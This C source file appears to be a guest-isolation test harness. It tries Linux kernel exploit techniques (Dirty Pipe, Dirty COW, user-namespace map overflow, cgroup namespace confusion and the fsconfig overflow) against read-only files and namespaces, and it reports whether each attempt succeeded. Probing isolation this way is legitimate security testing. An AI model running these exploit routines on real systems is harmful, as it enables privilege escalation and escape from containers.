/* What a guest tries with the kernel itself. Each line says what was tried and what came of it. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/mount.h>
#include <pthread.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *why(int failed) { return failed ? strerror(errno) : "ok"; }

/* ---- Pages of the cache that belong to others ---- */

static char before[4096];
static int file, changed;

/* Says what came of it, and whether the file is another one now. */
static void tried(const char *what, int failed) {
  char now[4096];
  const char *told = why(failed);
  if (pread(file, now, sizeof now, 0) != sizeof now) printf("cannot read it\n");
  int differs = memcmp(now, before, sizeof now) != 0;
  changed += differs;
  printf("%s: %s, %s\n", what, told, differs ? "CHANGED" : "as before");
}

static void *map(int prot, int flags) { return mmap(NULL, 4096, prot, flags, file, 0); }

/* A pipe whose every slot has held a page of ours, which may be appended to (CVE-2022-0847). */
static void used_pipe(int *ends) {
  char page[4096] = {0};
  if (pipe(ends)) return;
  int size = fcntl(ends[1], F_GETPIPE_SZ);
  for (int n = 0; n < size; n += sizeof page)
    if (write(ends[1], page, sizeof page) < 0) return;
  for (int n = 0; n < size; n += sizeof page)
    if (read(ends[0], page, sizeof page) < 0) return;
}

static void *drop_pages(void *page) {
  for (int i = 0; i < 20000; i++) madvise(page, 4096, MADV_DONTNEED);
  return NULL;
}

/* Writes to a private mapping while its page is thrown away (CVE-2016-5195). */
static void drop_and_write(void) {
  char *page = map(PROT_READ, MAP_PRIVATE);
  int memory = open("/proc/self/mem", O_RDWR);
  pthread_t other;
  pthread_create(&other, NULL, drop_pages, page);
  int failed = 0;
  for (int i = 0; i < 20000; i++) failed |= pwrite(memory, "evil", 4, (off_t)(uintptr_t)page) < 0;
  pthread_join(other, NULL);
  tried("private mapping, its page thrown away", failed);
}

static int pages_main(const char *path, const char *own) {
  int ends[2];
  file = open(path, O_RDONLY);
  if (file < 0 || pread(file, before, sizeof before, 0) != sizeof before) return printf("open: %s\n", why(1));
  char *shared = map(PROT_READ, MAP_SHARED);
  tried("mapping made writable", mprotect(shared, 4096, PROT_READ | PROT_WRITE) != 0);
  struct iovec from = {"evil", 4}, to = {shared, 4};
  tried("memory of a shared mapping", process_vm_writev(getpid(), &from, 1, &to, 1, 0) < 0);
  int memory = open("/proc/self/mem", O_RDWR);
  tried("its memory by /proc", pwrite(memory, "evil", 4, (off_t)(uintptr_t)shared) < 0);
  drop_and_write();
  loff_t at = 0;
  used_pipe(ends);
  int spliced = splice(file, &at, ends[1], NULL, 1, 0);
  tried("appended to its page in a pipe", spliced < 1 || write(ends[1], "evil", 4) < 0);
  used_pipe(ends);
  struct iovec page = {shared, 4096};
  int given = vmsplice(ends[1], &page, 1, SPLICE_F_GIFT);
  tried("its page given to a pipe", given < 1 || write(ends[1], "evil", 4) < 0);
  tried("a hash or cipher of it in place", socket(38 /* AF_ALG */, SOCK_SEQPACKET, 0) < 0);
  tried("a ring", syscall(SYS_io_uring_setup, 8, memset(calloc(1, 256), 0, 256)) < 0);
  int mine = open(own, O_RDWR);
  struct file_clone_range clone = {.src_fd = mine};
  tried("blocks of another file", ioctl(file, FICLONERANGE, &clone) != 0);
  tried("its blocks taken away", fallocate(file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096) != 0);
  tried("shorter", ftruncate(file, 0) != 0);
  tried("written to", pwrite(file, "evil", 4, 0) < 0);
  union { struct file_handle head; char room[128]; } handle = {.head = {.handle_bytes = 8, .handle_type = 1}};
  tried("by a handle", open_by_handle_at(AT_FDCWD, &handle.head, O_RDWR) < 0);
  printf("changed %d\n", changed);
  /* The means: a write to a page of the cache is seen. */
  file = mine;
  tried("the guest's own copy", file < 0);
  shared = map(PROT_READ | PROT_WRITE, MAP_SHARED);
  memcpy(shared, "own copy", 8);
  tried("a mapping of the guest's own copy", file < 0);
  return 0;
}

/* Direct and buffered writes, holes and cuts at once, on blocks that other files have too. */
static void *write_directly(void *unused) {
  char *page = aligned_alloc(4096, 4096);
  memset(page, 'e', 4096);
  int direct = open("/srv/large", O_RDWR | O_DIRECT);
  for (int i = 0; i < 400; i++)
    if (pwrite(direct, page, 4096, (i * 37 % 256) * 4096L) < 0) printf("direct: %s\n", why(1));
  return unused;
}

static int blocks_main(void) {
  pthread_t other[2];
  char page[4096];
  memset(page, 'E', sizeof page);
  int buffered = open("/srv/large", O_RDWR);
  for (int i = 0; i < 2; i++) pthread_create(&other[i], NULL, write_directly, NULL);
  int failed = 0;
  for (int i = 0; i < 400; i++) {
    long at = (i * 53 % 256) * 4096L;
    failed |= pwrite(buffered, page, sizeof page, at) < 0;
    failed |= fallocate(buffered, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, (i * 71 % 256) * 4096L, 4096) != 0;
  }
  for (int i = 0; i < 2; i++) pthread_join(other[i], NULL);
  fsync(buffered);
  return printf("blocks: %s\n", why(failed));
}

/* ---- Ids: a map of more extents than fit into a line of it (CVE-2018-18955) ---- */

static const char extents[] = "0 0 1\n1 1 1\n2 2 1\n3 3 1\n4 4 1\n5 5 995\n";

static void put(pid_t pid, const char *name) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  int map = open(path, O_WRONLY);
  printf("%s: %s\n", name, why(write(map, extents, sizeof extents - 1) < 0));
  close(map);
}

static void look(const char *what, const char *path) {
  struct stat is = {0};
  int known = stat(path, &is), opened = open(path, O_RDWR);
  printf("%s: uid %d, open %s\n", what, known ? -1 : (int)is.st_uid, why(opened < 0));
  printf("%s: chmod %s\n", what, why(chmod(path, 0666) != 0));
}

/* A user namespace in the one that this process is in; `level` more in that. */
static int nest(int level, const char *theirs, const char *own) {
  int ready[2], go[2];
  char c = 0;
  if (pipe(ready) || pipe(go)) return 1;
  pid_t child = fork();
  if (!child) {
    if (unshare(CLONE_NEWUSER)) printf("unshare: %s\n", why(1));
    if (write(ready[1], &c, 1) < 0 || read(go[0], &c, 1) < 0) _exit(1);
    if (setresgid(0, 0, 0) || setresuid(0, 0, 0)) printf("root: %s\n", why(1));
    look("theirs", theirs), look("own", own);
    _exit(level ? nest(level - 1, theirs, own) : 0);
  }
  if (read(ready[0], &c, 1) < 0) return 1;
  put(child, "uid_map"), put(child, "gid_map");
  if (write(go[1], &c, 1) < 0) return 1;
  return waitpid(child, NULL, 0) < 0;
}

/* ---- Groups: who has opened the file, and where, is who counts (CVE-2021-4197) ---- */

static int procs(const char *group) {
  char path[128];
  snprintf(path, sizeof path, "/sys/fs/cgroup/%s/cgroup.procs", group);
  return open(path, O_RDWR);
}

static int groups_main(void) {
  mkdir("/sys/fs/cgroup/t", 0755), mkdir("/sys/fs/cgroup/t/in", 0755);
  if (chown("/sys/fs/cgroup/t/cgroup.procs", 1000, 1000)) printf("chown: %s\n", why(1));
  if (seteuid(1000)) printf("seteuid: %s\n", why(1));
  int users = procs("t");
  if (seteuid(0)) printf("seteuid: %s\n", why(1));
  printf("a user's file, written by root: %s\n", why(write(users, "0", 1) < 0));
  printf("means: %s\n", why(write(procs("t"), "0", 1) < 0));
  /* Opened in a cgroup namespace whose root is below, used in the one above. */
  int above = open("/proc/self/ns/cgroup", O_RDONLY);
  if (write(procs("t/in"), "0", 1) < 0 || unshare(CLONE_NEWCGROUP)) printf("below: %s\n", why(1));
  int below = procs("t");
  if (setns(above, CLONE_NEWCGROUP)) printf("above: %s\n", why(1));
  printf("opened below, used above: %s\n", why(write(below, "0", 1) < 0));
  return printf("means: %s\n", why(write(procs("t"), "0", 1) < 0));
}

/* ---- Parameters of file systems (CVE-2022-0185) ---- */

static int parameters_main(char **names) {
  static char value[256];
  memset(value, 'A', sizeof value - 1);
  for (; *names; names++) {
    int context = syscall(SYS_fsopen, *names, 0), taken = 0;
    printf("%s: fsopen %s, ", *names, why(context < 0));
    while (context >= 0 && taken < 1 << 16 && !syscall(SYS_fsconfig, context, 1 /* SET_STRING */, "\x00", value, 0))
      taken += sizeof value;
    int made = syscall(SYS_fsconfig, context, 6 /* CMD_CREATE */, NULL, NULL, 0);
    printf("taken %d, create %s\n", taken, why(made != 0));
  }
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  const char *verb = argc > 1 ? argv[1] : "";
  if (!strcmp(verb, "pages") && argc > 3) return pages_main(argv[2], argv[3]) < 0;
  if (!strcmp(verb, "blocks")) return blocks_main() < 0;
  if (!strcmp(verb, "maps") && argc > 3) return nest(1, argv[2], argv[3]);
  if (!strcmp(verb, "groups")) return groups_main() < 0;
  if (!strcmp(verb, "parameters")) return parameters_main(argv + 2);
  return 2;
}
